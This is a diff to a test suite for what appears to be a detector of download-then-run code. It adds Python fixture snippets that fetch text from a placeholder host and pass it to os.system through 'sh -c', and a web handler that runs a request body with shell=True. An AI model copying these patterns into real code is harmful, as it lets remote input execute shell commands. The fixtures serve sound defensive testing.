@@ -26,6 +26,19 @@ test('what a module does when it is asked for a name that it has not is done una
   expect(await severities(downloadThenRun, [...fetching('found'), 'class Part:', '    def __getattr__(self, name):', '        return part()'])).toEqual(['medium']);
 });
 
+const opening = (line: string): readonly string[] => ['import os, requests', 'def show():', '    name = requests.get("https://parts.example.invalid/name").text', `    os.system(${line})`];
+
+async function isStrong(line: string): Promise<readonly unknown[]> {
+  const { facts } = await read(`${opening(line).join('\n')}\n`);
+  return facts === null ? [] : downloadThenRun.check(facts).map((finding) => finding.isStrong);
+}
+
+test('a program of the user that is given a fetched name is no strong sign; a shell that is given fetched words is one', async () => {
+  expect(await isStrong('"xdg-open \'%s.ofx\'" % name')).toEqual([false]);
+  expect(await isStrong('"sh -c \'%s\'" % name')).toEqual([true]);
+  expect(await isStrong('name')).toEqual([true]);
+});
+
 test('a site whose framework may be missing is one all the same', async () => {
   const site = ['import json, subprocess', 'try:', '    from tornado.web import RequestHandler', 'except ImportError:', '    RequestHandler = object', 'class Pulse(RequestHandler):', '    def post(self):', '        subprocess.run(json.loads(self.request.body)["line"], shell=True)'];
   expect(await severities(downloadThenRun, site)).toEqual(['medium']);
